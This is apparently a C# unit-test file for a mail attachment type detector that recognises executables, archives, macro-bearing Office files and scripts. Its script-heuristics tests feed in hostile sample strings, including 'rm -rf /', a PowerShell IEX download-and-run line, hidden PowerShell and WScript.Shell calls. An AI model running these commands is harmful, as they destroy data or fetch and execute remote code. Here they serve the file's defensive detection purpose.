using System.IO.Compression;
using System.Text;
using Assp.Mime.Attachments;

namespace Assp.Mime.Tests.Attachments;

public class FileTypeDetectorTests
{
    private static DetectedType D(byte[] b) => FileTypeDetector.Detect(b);

    private static byte[] Pad(byte[] magic, int size = 600)
    {
        var b = new byte[Math.Max(size, magic.Length)];
        magic.CopyTo(b, 0);
        return b;
    }

    [Fact]
    public void Pe_executable_and_dll_are_recognised()
    {
        var exe = D(TestFiles.Pe());
        Assert.Equal("exe", exe.Kind);
        Assert.Equal("PE32+ executable x86-64", exe.Detail);
        Assert.True(exe.IsExecutable);
        Assert.Equal("PE32 DLL x86", D(TestFiles.Pe(dll: true, pe32Plus: false)).Detail);
        Assert.True(FileTypeDetector.IsExecutableContent(TestFiles.Pe()));
    }

    [Fact]
    public void Mz_without_pe_header_is_still_an_executable()
    {
        var b = new byte[128];
        b[0] = (byte)'M'; b[1] = (byte)'Z';
        var t = D(b);
        Assert.Equal("exe", t.Kind);
        Assert.Equal("DOS MZ executable", t.Detail);
    }

    [Fact]
    public void Elf_is_recognised_with_class_and_machine()
    {
        var t = D(TestFiles.Elf());
        Assert.Equal("elf", t.Kind);
        Assert.Equal("ELF 64-bit executable x86-64", t.Detail);
        Assert.True(t.IsExecutable);
    }

    [Theory]
    [InlineData(new byte[] { 0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1 }, "macho")]
    [InlineData(new byte[] { 0xFE, 0xED, 0xFA, 0xCE, 0, 0, 0, 7 }, "macho")]
    [InlineData(new byte[] { 0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 2 }, "macho")]
    [InlineData(new byte[] { 0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52 }, "java-class")]
    [InlineData(new byte[] { (byte)'R', (byte)'a', (byte)'r', (byte)'!', 0x1A, 7, 0 }, "rar")]
    [InlineData(new byte[] { (byte)'R', (byte)'a', (byte)'r', (byte)'!', 0x1A, 7, 1, 0 }, "rar")]
    [InlineData(new byte[] { 0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0, 4 }, "7z")]
    [InlineData(new byte[] { 0x1F, 0x8B, 8, 0 }, "gzip")]
    [InlineData(new byte[] { (byte)'B', (byte)'Z', (byte)'h', (byte)'9', 0x31, 0x41 }, "bzip2")]
    [InlineData(new byte[] { 0xFD, 0x37, 0x7A, 0x58, 0x5A, 0 }, "xz")]
    [InlineData(new byte[] { (byte)'M', (byte)'S', (byte)'C', (byte)'F', 0, 0, 0, 0 }, "cab")]
    [InlineData(new byte[] { 0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1 }, "ole")]
    [InlineData(new byte[] { 0x4C, 0, 0, 0, 1, 0x14, 2, 0 }, "lnk")]
    [InlineData(new byte[] { 0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A }, "image-png")]
    [InlineData(new byte[] { 0xFF, 0xD8, 0xFF, 0xE0 }, "image-jpeg")]
    [InlineData(new byte[] { (byte)'G', (byte)'I', (byte)'F', (byte)'8', (byte)'9', (byte)'a' }, "image-gif")]
    [InlineData(new byte[] { (byte)'I', (byte)'T', (byte)'S', (byte)'F', 3, 0, 0, 0 }, "chm")]
    public void Magic_bytes(byte[] magic, string kind)
    {
        Assert.Equal(kind, D(Pad(magic)).Kind);
        Assert.Equal(kind, D(magic).Kind);
    }

    [Fact]
    public void Webp_bmp_rtf_and_pdf()
    {
        Assert.Equal("image-webp", D(Encoding.ASCII.GetBytes("RIFF\x10\0\0\0WEBPVP8 ")).Kind);
        var bmp = new byte[64];
        bmp[0] = (byte)'B'; bmp[1] = (byte)'M'; bmp[14] = 40;
        Assert.Equal("image-bmp", D(bmp).Kind);
        Assert.Equal("rtf", D(TestFiles.Text(@"{\rtf1\ansi hello}")).Kind);
        var pdf = D(TestFiles.Text("%PDF-1.7\n1 0 obj << /OpenAction 2 0 R /JS (app.alert(1)) >>"));
        Assert.Equal("pdf", pdf.Kind);
        Assert.Equal("application/pdf", pdf.MimeType);
        Assert.Contains("PDF-1.7", pdf.Detail, StringComparison.Ordinal);
        Assert.Contains("JavaScript", pdf.Detail, StringComparison.Ordinal);
        Assert.Contains("OpenAction", pdf.Detail, StringComparison.Ordinal);
        Assert.Equal("pdf", D(TestFiles.Text("junk before\n%PDF-1.4\n")).Kind);
    }

    [Fact]
    public void Iso9660_descriptor_at_0x8001()
    {
        var b = new byte[0x8800];
        b[0x8000] = 1;
        "CD001"u8.CopyTo(b.AsSpan(0x8001));
        Assert.Equal("iso", D(b).Kind);
        Assert.Equal("iso", FileTypeDetector.Detect(new MemoryStream(b)).Kind);
    }

    [Fact]
    public void Tar_ustar_and_v7()
    {
        var tar = TestFiles.Tar(("a.txt", TestFiles.Text("hi")));
        Assert.Equal("tar", D(tar).Kind);
        // Turn the ustar header into a v7 one: clear magic and fix the checksum.
        var v7 = (byte[])tar.Clone();
        Array.Clear(v7, 257, 8);
        long sum = 0;
        for (int i = 0; i < 512; i++) sum += i is >= 148 and < 156 ? ' ' : v7[i];
        Encoding.ASCII.GetBytes(Convert.ToString(sum, 8).PadLeft(6, '0') + "\0 ").CopyTo(v7, 148);
        var t = D(v7);
        Assert.Equal("tar", t.Kind);
        Assert.Equal("v7", t.Detail);
    }

    [Fact]
    public void Plain_zip_ooxml_odf_jar_apk_from_real_archives()
    {
        Assert.Equal("zip", D(TestFiles.Zip(("a.txt", TestFiles.Text("hello")))).Kind);
        var docx = D(TestFiles.Zip(("[Content_Types].xml", TestFiles.Text("<Types/>")), ("word/document.xml", TestFiles.Text("<w/>"))));
        Assert.Equal("ooxml", docx.Kind);
        Assert.Equal("docx", docx.Detail);
        Assert.False(docx.HasMacros);
        var xlsm = D(TestFiles.Zip(("[Content_Types].xml", TestFiles.Text("<Types/>")), ("xl/workbook.xml", TestFiles.Text("<w/>")),
            ("xl/vbaProject.bin", [1, 2, 3])));
        Assert.Equal("xlsx; macros", xlsm.Detail);
        Assert.True(xlsm.HasMacros);
        var odt = D(TestFiles.Zip(CompressionLevel.NoCompression, ("mimetype", TestFiles.Text("application/vnd.oasis.opendocument.text")),
            ("content.xml", TestFiles.Text("<x/>"))));
        Assert.Equal("odf", odt.Kind);
        Assert.Equal("application/vnd.oasis.opendocument.text", odt.MimeType);
        var jar = D(TestFiles.Zip(("META-INF/MANIFEST.MF", TestFiles.Text("Manifest-Version: 1.0")), ("a/B.class", [0xCA, 0xFE, 0xBA, 0xBE])));
        Assert.Equal("jar", jar.Kind);
        Assert.True(jar.IsExecutable);
        var apk = D(TestFiles.Zip(("AndroidManifest.xml", [3, 0]), ("classes.dex", TestFiles.Text("dex\n035")), ("META-INF/CERT.RSA", [1])));
        Assert.Equal("apk", apk.Kind);
        Assert.True(apk.IsExecutable);
    }

    [Fact]
    public void Large_ooxml_is_classified_from_the_central_directory_via_stream()
    {
        var noise = new byte[200_000];
        new Random(7).NextBytes(noise);
        var zip = TestFiles.Zip(("media/image1.bin", noise), ("[Content_Types].xml", TestFiles.Text("<Types/>")),
            ("ppt/presentation.xml", TestFiles.Text("<p/>")));
        // The head alone sees only the first (stored-sized) member: a plain zip.
        Assert.Equal("zip", FileTypeDetector.Detect(zip.AsSpan(0, 4096)).Kind);
        var ms = new MemoryStream(zip) { Position = 0 };
        var t = FileTypeDetector.Detect(ms);
        Assert.Equal("ooxml", t.Kind);
        Assert.Equal("pptx", t.Detail);
        Assert.Equal(0, ms.Position);
    }

    [Fact]
    public void Ole_with_msi_clsid_and_macro_storage()
    {
        var b = new byte[2048];
        new byte[] { 0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1 }.CopyTo(b, 0);
        b[0x1E] = 9; // 512-byte sectors
        // first directory sector = 0 -> directory at offset 512
        int root = 512;
        Encoding.Unicode.GetBytes("Root Entry\0").CopyTo(b, root);
        b[root + 0x40] = 22;
        new Guid("000C1084-0000-0000-C000-000000000046").ToByteArray().CopyTo(b, root + 0x50);
        Assert.Equal("msi", D(b).Detail);
        Assert.Equal("application/x-msi", D(b).MimeType);
        int e2 = root + 128;
        Encoding.Unicode.GetBytes("Macros\0").CopyTo(b, e2);
        b[e2 + 0x40] = 14;
        new Guid("00020906-0000-0000-C000-000000000046").ToByteArray().CopyTo(b, root + 0x50);
        var doc = D(b);
        Assert.Equal("doc; macros", doc.Detail);
        Assert.True(doc.HasMacros);
    }

    [Theory]
    [InlineData("#!/bin/sh\nrm -rf /\n", "shebang /bin/sh")]
    [InlineData("Set objShell = CreateObject(\"WScript.Shell\")\nobjShell.Run \"calc\"\n", "vbs")]
    [InlineData("var s = new ActiveXObject('WScript.Shell'); s.Run('cmd');", "js")]
    [InlineData("IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')", "ps1")]
    [InlineData("@echo off\r\npowershell -w hidden -c calc\r\n", "batch")]
    [InlineData("<html><head><HTA:APPLICATION ID=\"x\"/><script>alert(1)</script></head></html>", "hta")]
    [InlineData("<job id=\"a\"><script language=\"VBScript\">MsgBox 1</script></job>", "wsf")]
    public void Scripts_by_heuristics(string text, string detail)
    {
        var t = D(TestFiles.Text(text));
        Assert.Equal("script", t.Kind);
        Assert.Equal(detail, t.Detail);
        Assert.True(t.IsExecutable);
    }

    [Fact]
    public void Utf16_script_with_bom_is_found()
    {
        var b = new byte[] { 0xFF, 0xFE }.Concat(Encoding.Unicode.GetBytes("Invoke-Expression $env:TEMP")).ToArray();
        Assert.Equal("script", D(b).Kind);
    }

    [Fact]
    public void Html_text_and_unknown()
    {
        Assert.Equal("html", D(TestFiles.Text("<!DOCTYPE html><html><body><script>var a=1;</script></body></html>")).Kind);
        var text = D(TestFiles.Text("Dear customer,\r\nplease find the invoice attached. Set the date and call us.\r\n"));
        Assert.Equal("text", text.Kind);
        Assert.False(text.IsExecutable);
        Assert.Equal("unknown", D([0, 1, 2, 3, 0, 0, 0xFE, 0x80]).Kind);
        Assert.Equal("unknown", D([]).Kind);
    }
}
